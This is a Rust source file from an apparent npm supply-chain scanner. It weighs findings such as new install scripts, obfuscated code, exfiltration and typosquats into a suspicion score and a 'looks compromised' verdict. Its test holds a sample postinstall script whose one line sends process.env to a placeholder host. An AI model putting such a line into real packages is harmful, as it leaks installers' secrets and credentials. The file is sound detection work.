//! One verdict per package version: the other supply-chain findings of the version weighed
//! into a score from 0 to 100, and one result that says why the version looks compromised
//! ("new `postinstall` + obfuscated install.js + secrets sent to the network"), so the triage team
//! reads the night's suspects first. Only when something suspicious (a warning or an error)
//! adds up to [`MIN_SCORE`]; notes alone never make a verdict.
//!
//! The score is in the finding's matched text as `score N: ...` ([`Finding::suspicion_score`]), which the SARIF
//! writer turns into the result property `suspicionScore`.

use tarsier_model::{Finding, Severity};

use crate::rule_ids::*;
use crate::{Ctx, PackageInput};

/// The least score that makes a verdict.
pub const MIN_SCORE: u32 = 30;
/// From this score the verdict is an error.
pub const ERROR_SCORE: u32 = 70;
/// From this score the verdict is a warning (below: a note).
pub const WARNING_SCORE: u32 = 45;

/// Files from this size are bundles: file-level co-occurrence in them is weaker evidence.
const BUNDLE_BYTES: usize = 200 * 1024;

/// What one finding adds to the verdict: points and a short reason. `bytes` is the size of the
/// finding's file.
fn weigh(f: &Finding, bytes: usize) -> Option<(u32, String)> {
    let error = f.severity == Severity::Error;
    let warning = f.severity == Severity::Warning;
    let (points, reason) = match f.rule_id.as_str() {
        INSTALL_SCRIPT if error => (
            35,
            format!(
                "install script: {}",
                f.message.rsplit("; ").next().unwrap_or_default()
            ),
        ),
        INSTALL_SCRIPT if warning => (10, "install script that reads or downloads".to_owned()),
        RELEASE_INSTALL_SCRIPT if warning => {
            let hook = f.matched_text.split(':').next().unwrap_or("install");
            let how = if f.message.contains("is new") {
                "new"
            } else {
                "changed"
            };
            (15, format!("{how} `{hook}`"))
        }
        OBFUSCATED_CODE => (20, format!("obfuscated {}", f.path)),
        // File-level co-occurrence in a large bundle is weaker evidence than in a small script.
        EXFILTRATION if error && bytes < BUNDLE_BYTES => {
            (40, format!("secrets sent out from {}", f.path))
        }
        EXFILTRATION if error => (20, format!("secrets read and sent in {}", f.path)),
        WORM_MOVE if error => (45, f.matched_text.clone()),
        WORM_MOVE => (15, f.matched_text.clone()),
        RELEASE_CHANGED_CODE if error => (55, format!("{}: {}", f.path, f.matched_text)),
        RELEASE_CHANGED_CODE if warning => (20, format!("{}: {}", f.path, f.matched_text)),
        DYNAMIC_REQUIRE => (10, format!("hidden require in {}", f.path)),
        NATIVE_BINARY if warning || error => (10, format!("bundled binary {}", f.path)),
        TYPOSQUAT => (20, "name close to a known package".to_owned()),
        RELEASE_NEW_FILE if warning => (10, f.matched_text.clone()),
        RELEASE_ENTRY_POINT if warning => (5, "changed `bin`".to_owned()),
        _ => return None,
    };
    (error || warning).then_some((points, reason))
}

pub(crate) fn check(ctx: &mut Ctx<'_, '_>, previous: Option<&PackageInput<'_>>) {
    // Each rule counts once, at its strongest finding: six hidden requires in one build are one
    // reason, not six.
    let mut by_rule: std::collections::BTreeMap<&str, u32> = std::collections::BTreeMap::new();
    let mut reasons: Vec<(u32, String)> = Vec::new();
    for f in ctx.findings() {
        let bytes = ctx.text(&f.path).map_or(0, str::len);
        let Some((points, reason)) = weigh(f, bytes) else {
            continue;
        };
        let best = by_rule.entry(f.rule_id.as_str()).or_default();
        *best = (*best).max(points);
        if !reasons.iter().any(|(_, r)| *r == reason) {
            reasons.push((points, reason));
        }
    }
    let score = by_rule.values().sum::<u32>().min(100);
    if score < MIN_SCORE {
        return;
    }
    // Strongest reasons first.
    reasons.sort_by(|a, b| b.0.cmp(&a.0).then(a.1.cmp(&b.1)));
    let shown: Vec<&str> = reasons.iter().take(6).map(|(_, r)| r.as_str()).collect();
    let severity = if score >= ERROR_SCORE {
        Severity::Error
    } else if score >= WARNING_SCORE {
        Severity::Warning
    } else {
        Severity::Note
    };
    let since = previous.map_or_else(String::new, |p| format!(" (compared with {})", p.version));
    let message = format!(
        "{} looks compromised (score {score}/100){since}: {}",
        ctx.package.spec(),
        shown.join(" + ")
    );
    let matched = format!("score {score}: {}", shown.join(" + "));
    ctx.report_manifest(VERDICT, severity, message, None, &matched);
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use crate::rule_ids::VERDICT;
    use crate::{Options, PackageInput, analyze};

    #[test]
    fn a_stealing_install_script_gets_a_verdict_and_a_plain_one_none() {
        let manifest =
            br#"{"name": "p", "version": "1.0.1", "scripts": {"postinstall": "node i.js"}}"#;
        let steal: &[u8] =
            b"require('https').request({host: 'x.invalid'}).end(JSON.stringify(process.env));";
        let files: Vec<(&str, &[u8])> = vec![("package.json", manifest), ("i.js", steal)];
        let p = PackageInput::from_files("p", "1.0.1", &files).unwrap();
        let report = analyze(&p, None, &Options::default());
        let verdict: Vec<_> = report
            .findings
            .iter()
            .filter(|f| f.rule_id == VERDICT)
            .collect();
        assert_eq!(verdict.len(), 1, "{:#?}", report.findings);
        assert!(verdict[0].suspicion_score().unwrap() >= super::ERROR_SCORE);
        assert!(
            verdict[0].message.contains("secrets sent out"),
            "{}",
            verdict[0].message
        );

        let plain: &[u8] = b"if (!process.env.CI) console.log('thanks for using p');";
        let files: Vec<(&str, &[u8])> = vec![("package.json", manifest), ("i.js", plain)];
        let p = PackageInput::from_files("p", "1.0.1", &files).unwrap();
        let report = analyze(&p, None, &Options::default());
        assert!(
            report.findings.iter().all(|f| f.rule_id != VERDICT),
            "{:#?}",
            report.findings
        );
    }
}
